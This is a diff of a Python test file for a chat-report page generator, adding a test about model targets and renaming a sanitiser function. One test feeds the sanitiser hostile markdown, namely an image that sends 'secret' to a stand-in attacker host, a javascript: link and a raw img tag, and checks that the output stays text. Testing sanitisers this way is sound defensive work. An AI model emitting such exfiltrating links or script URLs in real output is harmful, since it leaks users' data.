@@ -125,9 +125,20 @@ class TestReport:
         page = (tmp_path / "page.html").read_text()
         assert page.index("/inspect") < page.index("Does it fit?") < page.index("It fits.")
         assert re.search(r"SHA-256 [0-9a-f]{64}", page)
-        assert "<b>" not in page
+        said = page[page.index('<section id="said">') : page.index("</section>")]
+        assert "<b>" not in said
         assert KEY not in page
-        assert not re.search(r"(?:src|href)=|https?:", page)
+        assert not re.search(r"src=|href=|https?:", said)
+
+    def test_a_page_of_a_chat_about_targets_shows_the_model_on_each(self, tell: Tell, tmp_path: Path) -> None:
+        tell("/model kws")
+        tell("/target nrf52840")
+        tell("/memory")
+        tell("/report page.html")
+        page = (tmp_path / "page.html").read_text()
+        assert page.index("/memory") < page.index('class="deployment"')
+        assert "on nrf52840 with" in page
+        assert '<section id="said">' in page
 
     def test_a_report_overwrites_nothing_and_says_what_it_cannot_write(
         self, tell: Tell, tmp_path: Path
@@ -141,9 +152,9 @@ class TestReport:
         assert (tmp_path / "page.md").read_text() == before
 
     def test_remote_images_and_links_of_an_answer_stay_text(self, tmp_path: Path) -> None:
-        from edgewright.agent.repl.report import as_page
+        from edgewright.agent.repl.report import as_html
 
-        page = as_page(
+        page = as_html(
             "![x](https://evil.example/?q=secret) [y](javascript:alert(1)) <img src=z> <https://a.b>"
         )
         assert "<img" not in page
